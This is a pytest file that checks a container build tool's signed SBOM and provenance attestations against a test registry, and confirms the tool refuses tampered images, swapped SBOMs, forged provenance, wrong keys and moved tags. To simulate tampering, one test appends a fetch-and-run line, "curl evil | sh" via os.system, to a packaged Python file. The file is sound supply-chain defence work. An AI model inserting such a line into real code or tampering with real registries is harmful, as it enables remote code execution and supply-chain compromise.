"""Signed builds pushed to a real docker-registry carry their SBOM and provenance as referrers;
``check`` re-derives them bit for bit and refuses every tampered variant with a one-line reason.

The registry is the CNCF distribution (``docker-registry``): no referrers API, so the
attestations are found under the referrers tag schema (``sha256-<hex>``). Verification here is
independent of kiln: ``securesystemslib``'s DSSE envelope, ``cryptography`` over the spec's PAE,
``cyclonedx-python-lib``'s schema validator, raw HTTP for the registry.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

from tests.support import TEST_IMAGES
from tests.support.kiln_process import run_kiln
from tests.support.registry import VLLM_VERSION

pytestmark = pytest.mark.registry

IMAGE, SM = "e2e-p65", 120
TAG = f"cu130-sm{SM}-v{VLLM_VERSION}"
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
SBOM_TYPE = "application/vnd.cyclonedx+json"
DSSE_TYPE = "application/vnd.dsse.envelope.v1+json"


def _pem_pair(private, directory: Path, name: str) -> tuple[Path, Path]:
    key, pub = directory / f"{name}.pem", directory / f"{name}.pub"
    key.write_bytes(private.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                          serialization.NoEncryption()))
    pub.write_bytes(private.public_key().public_bytes(serialization.Encoding.PEM,
                                                      serialization.PublicFormat.SubjectPublicKeyInfo))
    return key, pub


def _sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


class Registry:
    """Raw HTTP against the test registry: what an attacker with push access can do."""

    def __init__(self, server):
        self.url, self.host = server.url, server.host

    def manifest(self, repo: str, ref: str) -> tuple[bytes, str]:
        resp = requests.get(f"{self.url}/v2/{repo}/manifests/{ref}", timeout=10,
                            headers={"Accept": f"{OCI_MANIFEST}, {OCI_INDEX}"})
        resp.raise_for_status()
        return resp.content, resp.headers["Content-Type"]

    def blob(self, repo: str, digest: str) -> bytes:
        resp = requests.get(f"{self.url}/v2/{repo}/blobs/{digest}", timeout=30)
        resp.raise_for_status()
        return resp.content

    def put_blob(self, repo: str, data: bytes) -> str:
        digest = _sha(data)
        resp = requests.post(f"{self.url}/v2/{repo}/blobs/uploads/", timeout=10)
        location = resp.headers["Location"]
        location = location if location.startswith("http") else self.url + location
        sep = "&" if "?" in location else "?"
        requests.put(f"{location}{sep}digest={digest}", data=data, timeout=30,
                     headers={"Content-Type": "application/octet-stream"}).raise_for_status()
        return digest

    def mount(self, repo: str, digest: str, source: str) -> None:
        resp = requests.post(f"{self.url}/v2/{repo}/blobs/uploads/?mount={digest}&from={source}", timeout=10)
        assert resp.status_code == 201, resp.text

    def put_manifest(self, repo: str, ref: str, data: bytes, media_type: str = OCI_MANIFEST) -> str:
        requests.put(f"{self.url}/v2/{repo}/manifests/{ref}", data=data, timeout=10,
                     headers={"Content-Type": media_type}).raise_for_status()
        return _sha(data)

    def referrers(self, repo: str, digest: str) -> list[dict]:
        resp = requests.get(f"{self.url}/v2/{repo}/manifests/sha256-{digest.split(':')[1]}", timeout=10,
                            headers={"Accept": OCI_INDEX})
        return resp.json()["manifests"] if resp.status_code == 200 else []

    def clone(self, source: str, target: str, tag: str) -> str:
        """The image under ``source:tag`` and its referrers, copied into ``target`` (blobs mounted)."""
        data, media_type = self.manifest(source, tag)
        digest = _sha(data)
        manifests = [(data, media_type)]
        for entry in self.referrers(source, digest):
            manifests.append(self.manifest(source, entry["digest"]))
        for raw, _ in manifests:
            body = json.loads(raw)
            for blob in [body["config"], *body["layers"]]:
                self.mount(target, blob["digest"], source)
        for raw, kind in manifests[1:]:
            self.put_manifest(target, _sha(raw), raw, kind)
        if len(manifests) > 1:
            index, _ = self.manifest(source, f"sha256-{digest.split(':')[1]}")
            self.put_manifest(target, f"sha256-{digest.split(':')[1]}", index, OCI_INDEX)
        self.put_manifest(target, tag, data, media_type)
        return digest


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    return run_kiln(*argv)


@pytest.fixture(scope="module")
def signed(tmp_path_factory, registry_plain):
    """One Ed25519-signed build, pushed (and written to an OCI layout), shared by the tests."""
    root = tmp_path_factory.mktemp("trust")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("KILN_CACHE_DIR", str(root / "cache"))
        mp.setenv("DOCKER_CONFIG", str(root / "docker-config"))
        mp.setenv("KILN_REGISTRIES", str(root / "registries.toml"))
        mp.delenv("SOURCE_DATE_EPOCH", raising=False)
        key, pub = _pem_pair(ed25519.Ed25519PrivateKey.generate(), root, "signer")
        pins = root / "pins.toml"
        digest = registry_plain.digest_of(f"vllm/vllm-openai:v{VLLM_VERSION}")
        pins.write_text('[pins."v0.20.1"]\nrole = "current"\nimage = "docker.io/vllm/vllm-openai:v0.20.1"\n'
                        f'vllm = "{VLLM_VERSION}"\ncuda = "cu130"\ndigest = "{digest}"\n')
        repo = "test/trust-signed"
        argv = ["--pins", str(pins), "--images", str(TEST_IMAGES), "build", "--image", IMAGE, "--pin", "v0.20.1",
                "--sm", str(SM), "--mirror", registry_plain.mirror, "--json", "--push", "--repository",
                f"{registry_plain.host}/{repo}", "--oci", str(root / "layout"), "--sign-key", str(key)]
        code, _, err = run_kiln(*argv)
        assert code == 0, err
    return {"root": root, "key": key, "pub": pub, "pins": pins, "repo": repo, "registry": registry_plain,
            "raw": Registry(registry_plain), "argv": argv}


def _check(capsys, signed, ref: str, *extra: str) -> tuple[int, str, str]:
    return _run(capsys, "--pins", str(signed["pins"]), "--images", str(TEST_IMAGES), "check", ref,
                "--mirror", signed["registry"].mirror, *extra)


def test_signed_build_carries_both_referrers_and_check_says_identical(signed, capsys):
    raw, repo = signed["raw"], signed["repo"]
    data, _ = raw.manifest(repo, TAG)
    digest = _sha(data)
    entries = raw.referrers(repo, digest)
    assert sorted(e["artifactType"] for e in entries) == [SBOM_TYPE, DSSE_TYPE]
    for entry in entries:
        body = json.loads(raw.manifest(repo, entry["digest"])[0])
        assert body["subject"]["digest"] == digest and body["artifactType"] == entry["artifactType"]
        assert body["config"]["mediaType"] == "application/vnd.oci.empty.v1+json"
    code, out, err = _check(capsys, signed, f"{raw.host}/{repo}:{TAG}", "--key", str(signed["pub"]))
    assert code == 0, err
    assert out.startswith("identical:") and digest in out
    # what it verified: the digest, the tag, the platform, the key
    assert f"tag {TAG}, {_platform(raw, repo, data)} sm_{SM}, signed by key {_keyid(signed['pub'])}" in out


def _platform(raw: Registry, repo: str, manifest: bytes) -> str:
    config = json.loads(raw.blob(repo, json.loads(manifest)["config"]["digest"]))
    return f"{config['os']}/{config['architecture']}"


def _keyid(pub: Path) -> str:
    public = serialization.load_pem_public_key(pub.read_bytes())
    return hashlib.sha256(public.public_bytes(serialization.Encoding.DER,
                                              serialization.PublicFormat.SubjectPublicKeyInfo)).hexdigest()


def _attached(raw: Registry, repo: str, digest: str) -> dict[str, tuple[dict, bytes]]:
    """artifact type -> (artifact manifest, document) under the referrers tag of ``digest``."""
    out = {}
    for entry in raw.referrers(repo, digest):
        body = json.loads(raw.manifest(repo, entry["digest"])[0])
        out[body["artifactType"]] = (body, raw.blob(repo, body["layers"][0]["digest"]))
    return out


def test_attestations_verify_with_independent_implementations(signed):
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator
    from securesystemslib.dsse import Envelope
    from securesystemslib.signer import SSlibKey

    raw, repo = signed["raw"], signed["repo"]
    data, _ = raw.manifest(repo, TAG)
    digest = _sha(data)
    found = _attached(raw, repo, digest)
    sbom = found[SBOM_TYPE][1]
    validator = JsonStrictValidator(SchemaVersion.V1_6)
    assert validator.validate_str(sbom.decode()) is None
    bom = json.loads(sbom)
    broken = {**bom, "components": [{**bom["components"][0], "type": "not-a-type"}, *bom["components"][1:]]}
    assert validator.validate_str(json.dumps(broken)) is not None  # the validator does look
    assert bom["specVersion"] == "1.6"
    assert bom["metadata"]["component"]["hashes"] == [{"alg": "SHA-256", "content": digest.split(":")[1]}]
    names = {c["name"]: c for c in bom["components"]}
    assert names["vllm"]["version"] == VLLM_VERSION and names["vllm"]["pedigree"]["patches"]
    base = registry_digest = signed["registry"].digest_of(f"vllm/vllm-openai:v{VLLM_VERSION}")
    assert names["docker.io/vllm/vllm-openai:v0.20.1"]["version"] == base == registry_digest
    p65 = names["patch P65"]
    props = {p["name"]: p["value"] for p in p65["properties"]}
    assert props["kiln:verdict"] == "APPLIES"
    [changed] = p65["components"]
    assert changed["name"].endswith("/vllm/v1/attention/backends/turboquant_attn.py")

    envelope = found[DSSE_TYPE][1]
    public = serialization.load_pem_public_key(signed["pub"].read_bytes())
    keyid = hashlib.sha256(public.public_bytes(serialization.Encoding.DER,
                                               serialization.PublicFormat.SubjectPublicKeyInfo)).hexdigest()
    accepted = Envelope.from_dict(json.loads(envelope)).verify([SSlibKey.from_crypto(public, keyid)], 1)
    assert keyid in accepted
    # and by hand: the DSSE spec's PAE, checked with cryptography
    body = json.loads(envelope)
    payload = base64.b64decode(body["payload"])
    kind = body["payloadType"].encode()
    public.verify(base64.b64decode(body["signatures"][0]["sig"]),
                  b"DSSEv1 %d %s %d %s" % (len(kind), kind, len(payload), payload))
    statement = json.loads(payload)
    assert statement["subject"][0]["digest"] == {"sha256": digest.split(":")[1]}
    assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
    [sbom_ref] = statement["predicate"]["runDetails"]["byproducts"]
    assert sbom_ref["digest"]["sha256"] == hashlib.sha256(sbom).hexdigest()
    params = statement["predicate"]["buildDefinition"]["externalParameters"]
    assert params["pin"]["digest"] == base and params["sm"] == SM and "P65" in params["patches"]
    deps = {d["name"]: d for d in statement["predicate"]["buildDefinition"]["resolvedDependencies"]}
    assert deps["base"]["digest"] == {"sha256": base.split(":")[1]}


def test_oci_layout_holds_the_attestations_beside_the_image(signed):
    layout = signed["root"] / "layout"
    index = json.loads((layout / "index.json").read_text())
    [image] = [m for m in index["manifests"] if "artifactType" not in m]
    artifacts = [m for m in index["manifests"] if "artifactType" in m]
    assert sorted(m["artifactType"] for m in artifacts) == [SBOM_TYPE, DSSE_TYPE]
    for entry in artifacts:
        data = (layout / "blobs/sha256" / entry["digest"].split(":")[1]).read_bytes()
        assert _sha(data) == entry["digest"]
        body = json.loads(data)
        assert body["subject"]["digest"] == image["digest"]
        doc = (layout / "blobs/sha256" / body["layers"][0]["digest"].split(":")[1]).read_bytes()
        assert _sha(doc) == body["layers"][0]["digest"]
    # the layout's attestations are the pushed ones, byte for byte (Ed25519 signatures are deterministic)
    pushed = signed["raw"].referrers(signed["repo"], image["digest"])
    assert sorted(e["digest"] for e in pushed) == sorted(e["digest"] for e in artifacts)


@pytest.mark.reliability
def test_unsigned_rebuild_gives_the_same_sbom_and_statement_and_stays_valid(signed, capsys):
    raw = signed["raw"]
    argv = list(signed["argv"])
    at = argv.index("--sign-key")
    del argv[at:at + 2]
    at = argv.index("--oci")
    del argv[at:at + 2]
    argv[argv.index("--repository") + 1] = f"{raw.host}/test/trust-unsigned"
    code, out, err = _run(capsys, *argv)
    assert code == 0, err
    result = json.loads(out)
    assert result["signed"] is False
    digest = _sha(raw.manifest(signed["repo"], TAG)[0])
    assert result["manifest_digest"] == digest
    mine = _attached(raw, "test/trust-unsigned", digest)
    theirs = _attached(raw, signed["repo"], digest)
    assert mine[SBOM_TYPE][1] == theirs[SBOM_TYPE][1]
    assert json.loads(mine[DSSE_TYPE][1])["payload"] == json.loads(theirs[DSSE_TYPE][1])["payload"]
    assert json.loads(mine[DSSE_TYPE][1])["signatures"] == []
    ref = f"{raw.host}/test/trust-unsigned:{TAG}"
    code, out, err = _check(capsys, signed, ref)
    assert code == 0, err
    assert out.startswith("identical:") and "signature not verified" in out
    code, out, err = _check(capsys, signed, ref, "--key", str(signed["pub"]))
    assert code == 1 and err.startswith("refused: ") and err.count("\n") == 1 and "is not signed" in err


# -- tampering: each refused with one line -------------------------------------------------------

def _refused(capsys, signed, ref: str, *extra: str) -> str:
    code, out, err = _check(capsys, signed, ref, *extra)
    assert code == 1, (out, err)
    lines = err.splitlines()  # warnings (no --key) come first; the refusal is one line
    assert lines[-1].startswith("refused: ") and all(line.startswith("warning: ") for line in lines[:-1]), err
    return lines[-1]


def _artifact(raw: Registry, repo: str, artifact_type: str, document: bytes, subject: bytes) -> dict:
    """An artifact manifest for ``document`` about ``subject``, pushed; its index entry."""
    empty = raw.put_blob(repo, b"{}")
    layer = raw.put_blob(repo, document)
    body = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "artifactType": artifact_type,
                       "config": {"mediaType": "application/vnd.oci.empty.v1+json", "digest": empty, "size": 2},
                       "layers": [{"mediaType": artifact_type, "digest": layer, "size": len(document)}],
                       "subject": {"mediaType": OCI_MANIFEST, "digest": _sha(subject), "size": len(subject)}}).encode()
    digest = raw.put_manifest(repo, _sha(body), body)
    return {"mediaType": OCI_MANIFEST, "digest": digest, "size": len(body), "artifactType": artifact_type}


def _set_referrers(raw: Registry, repo: str, digest: str, entries: list[dict]) -> None:
    index = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": entries}).encode()
    raw.put_manifest(repo, f"sha256-{digest.split(':')[1]}", index, OCI_INDEX)


def _with_annotation(raw: Registry, repo: str) -> tuple[bytes, bytes]:
    original, _ = raw.manifest(repo, TAG)
    body = json.loads(original)
    body["annotations"]["org.opencontainers.image.version"] = "cu130-sm120-evil"
    changed = json.dumps(body).encode()
    raw.put_manifest(repo, TAG, changed)
    return original, changed


@pytest.mark.reliability
def test_tamper_changed_file_in_the_patch_layer_is_refused_and_named(signed, capsys):
    raw, repo = signed["raw"], "test/tamper-file"
    raw.clone(signed["repo"], repo, TAG)
    original, _ = raw.manifest(repo, TAG)
    body = json.loads(original)
    layer = next(entry for entry in reversed(body["layers"])
                 if b"turboquant_attn.py" in gzip.decompress(raw.blob(repo, entry["digest"])))
    position = body["layers"].index(layer)
    tar_in = tarfile.open(fileobj=io.BytesIO(gzip.decompress(raw.blob(repo, layer["digest"]))))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar_out:
        for member in tar_in.getmembers():
            data = tar_in.extractfile(member).read() if member.isfile() else None
            if member.name.endswith("turboquant_attn.py"):
                data += b"\nimport os; os.system('curl evil | sh')\n"
                member.size = len(data)
            tar_out.addfile(member, io.BytesIO(data) if data is not None else None)
    plain = out.getvalue()
    packed = gzip.compress(plain, mtime=0)
    config = json.loads(raw.blob(repo, body["config"]["digest"]))
    config["rootfs"]["diff_ids"][position] = _sha(plain)
    config_bytes = json.dumps(config).encode()
    body["config"] = {**body["config"], "digest": raw.put_blob(repo, config_bytes), "size": len(config_bytes)}
    body["layers"][position] = {**layer, "digest": raw.put_blob(repo, packed), "size": len(packed)}
    tampered = json.dumps(body).encode()
    raw.put_manifest(repo, TAG, tampered)
    # the attacker has no key: the provenance is re-made unsigned, for the tampered digest
    found = _attached(raw, repo, _sha(original))
    envelope = json.loads(found[DSSE_TYPE][1])
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["subject"][0]["digest"]["sha256"] = _sha(tampered).split(":")[1]
    forged = json.dumps({"payload": base64.b64encode(json.dumps(statement).encode()).decode(),
                         "payloadType": envelope["payloadType"], "signatures": []}).encode()
    _set_referrers(raw, repo, _sha(tampered), [
        _artifact(raw, repo, SBOM_TYPE, found[SBOM_TYPE][1], tampered),
        _artifact(raw, repo, DSSE_TYPE, forged, tampered)])
    ref = f"{raw.host}/{repo}:{TAG}"
    assert "is not signed" in _refused(capsys, signed, ref, "--key", str(signed["pub"]))
    err = _refused(capsys, signed, ref)
    assert f"layer {position} ({body['layers'][position]['digest']})" in err
    assert "file /usr/local/lib/python3.12/dist-packages/vllm/v1/attention/backends/turboquant_attn.py differs (content)" in err


@pytest.mark.reliability
def test_tamper_changed_annotation_with_the_original_attestations_is_refused(signed, capsys):
    raw, repo = signed["raw"], "test/tamper-annotation"
    raw.clone(signed["repo"], repo, TAG)
    original, changed = _with_annotation(raw, repo)
    _set_referrers(raw, repo, _sha(changed), raw.referrers(repo, _sha(original)))  # copied verbatim
    err = _refused(capsys, signed, f"{raw.host}/{repo}:{TAG}", "--key", str(signed["pub"]))
    assert f"names subject {_sha(original)}, not this image" in err


@pytest.mark.reliability
def test_tamper_provenance_for_another_digest_is_refused(signed, capsys):
    raw, repo = signed["raw"], "test/tamper-subject"
    raw.clone(signed["repo"], repo, TAG)
    original, changed = _with_annotation(raw, repo)
    found = _attached(raw, repo, _sha(original))  # the signed envelope, re-attached to the new digest
    _set_referrers(raw, repo, _sha(changed), [
        _artifact(raw, repo, SBOM_TYPE, found[SBOM_TYPE][1], changed),
        _artifact(raw, repo, DSSE_TYPE, found[DSSE_TYPE][1], changed)])
    err = _refused(capsys, signed, f"{raw.host}/{repo}:{TAG}", "--key", str(signed["pub"]))
    assert f"the provenance is for {_sha(original)}, not this image" in err


@pytest.mark.reliability
def test_tamper_swapped_sbom_is_refused(signed, capsys):
    raw, repo = signed["raw"], "test/tamper-sbom"
    digest = raw.clone(signed["repo"], repo, TAG)
    data, _ = raw.manifest(repo, TAG)
    entries = raw.referrers(repo, digest)
    found = _attached(raw, repo, digest)
    bom = json.loads(found[SBOM_TYPE][1])
    bom["components"] = [c for c in bom["components"] if c["name"] != "patch P65"]  # hide a patch
    swapped = _artifact(raw, repo, SBOM_TYPE, json.dumps(bom).encode(), data)
    _set_referrers(raw, repo, digest, [e for e in entries if e["artifactType"] != SBOM_TYPE] + [swapped])
    err = _refused(capsys, signed, f"{raw.host}/{repo}:{TAG}", "--key", str(signed["pub"]))
    assert "is not the one the provenance records" in err


@pytest.mark.reliability
def test_tamper_another_key_is_refused(signed, capsys, tmp_path):
    _, other = _pem_pair(ec.generate_private_key(ec.SECP256R1()), tmp_path, "other")
    err = _refused(capsys, signed, f"{signed['raw'].host}/{signed['repo']}:{TAG}", "--key", str(other))
    assert "no signature verifies with the given key" in err


@pytest.mark.reliability
def test_tamper_another_image_under_the_same_tag_is_refused(signed, capsys):
    raw, repo = signed["raw"], "test/tamper-tag"
    raw.clone(signed["repo"], repo, TAG)
    base, kind = raw.manifest("vllm/vllm-openai", f"v{VLLM_VERSION}")
    body = json.loads(base)
    for blob in [body["config"], *body["layers"]]:
        raw.mount(repo, blob["digest"], "vllm/vllm-openai")
    raw.put_manifest(repo, TAG, base, kind.split(";")[0])
    err = _refused(capsys, signed, f"{raw.host}/{repo}:{TAG}", "--key", str(signed["pub"]))
    assert f"{_sha(base)}: no provenance attached" in err


@pytest.mark.reliability
def test_tag_moved_onto_another_signed_image_is_refused_naming_both_tags(signed, capsys):
    """The sm86 tag moved onto the legitimately signed sm120 image: every signature verifies and
    the image re-derives, but it is not what the tag the user asked about was built as."""
    raw, repo = signed["raw"], "test/moved-tag"
    digest = raw.clone(signed["repo"], repo, TAG)
    moved = f"cu130-sm86-v{VLLM_VERSION}"
    data, kind = raw.manifest(repo, TAG)
    raw.put_manifest(repo, moved, data, kind.split(";")[0])
    ref = f"{raw.host}/{repo}:{moved}"
    err = _refused(capsys, signed, ref, "--key", str(signed["pub"]))
    assert f"{ref} names {digest}, whose provenance records the tag {TAG}, not {moved}" in err
    assert "--allow-moved-tag" in err
    code, out, err = _check(capsys, signed, ref, "--key", str(signed["pub"]), "--allow-moved-tag")
    assert code == 0, err
    [warning] = err.splitlines()
    assert warning.startswith("warning: ") and f"records the tag {TAG}, not {moved}" in warning
    assert out.startswith(f"identical: {ref} ({digest}), tag {TAG}, {_platform(raw, repo, data)} sm_{SM}, "
                          f"signed by key {_keyid(signed['pub'])}")
